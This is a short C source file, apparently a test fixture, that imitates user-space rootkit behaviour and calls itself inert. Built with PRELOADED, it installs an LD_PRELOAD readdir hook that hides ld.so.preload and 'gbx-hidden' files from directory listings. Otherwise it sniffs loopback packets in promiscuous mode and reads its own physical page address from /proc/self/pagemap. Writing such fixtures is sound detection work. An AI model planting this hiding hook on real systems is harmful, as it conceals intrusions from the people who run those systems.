/* What a rootkit of user space does, inert: run as a program it listens to every packet on the loopback interface and tells
   where in physical memory a page of its own lies; loaded by the loader it leaves the list of preloaded libraries, and the
   names that hold "gbx-hidden", out of every directory. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#ifdef PRELOADED
struct dirent64 *readdir64(DIR *folder) {
    struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *one;
    while ((one = real(folder)) != 0)
        if (!strstr(one->d_name, "ld.so.preload") && !strstr(one->d_name, "gbx-hidden"))
            break;
    return one;
}
struct dirent *readdir(DIR *folder) { return (struct dirent *)readdir64(folder); }
#else
int main(void) {
    int packets = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    struct packet_mreq promiscuous = {.mr_ifindex = 1, .mr_type = PACKET_MR_PROMISC};
    if (packets < 0 || setsockopt(packets, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &promiscuous, sizeof promiscuous))
        return 1;
    if (socket(AF_INET, SOCK_RAW, IPPROTO_TCP) < 0)
        return 2;
    char *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uint64_t entry = 0;
    if (page == MAP_FAILED || mlock(page, 4096))
        return 3;
    for (int at = 0; at < 4096; at += 32)
        memcpy(page + at, "this page is known to the test. ", 32);
    int map = open("/proc/self/pagemap", O_RDONLY);
    if (pread(map, &entry, 8, (uintptr_t)page / 4096 * 8) != 8)
        return 4;
    printf("physical %llu\n", (unsigned long long)(entry & ((1ull << 55) - 1)) * 4096);
    fflush(stdout);
    for (;;)
        pause();
}
#endif
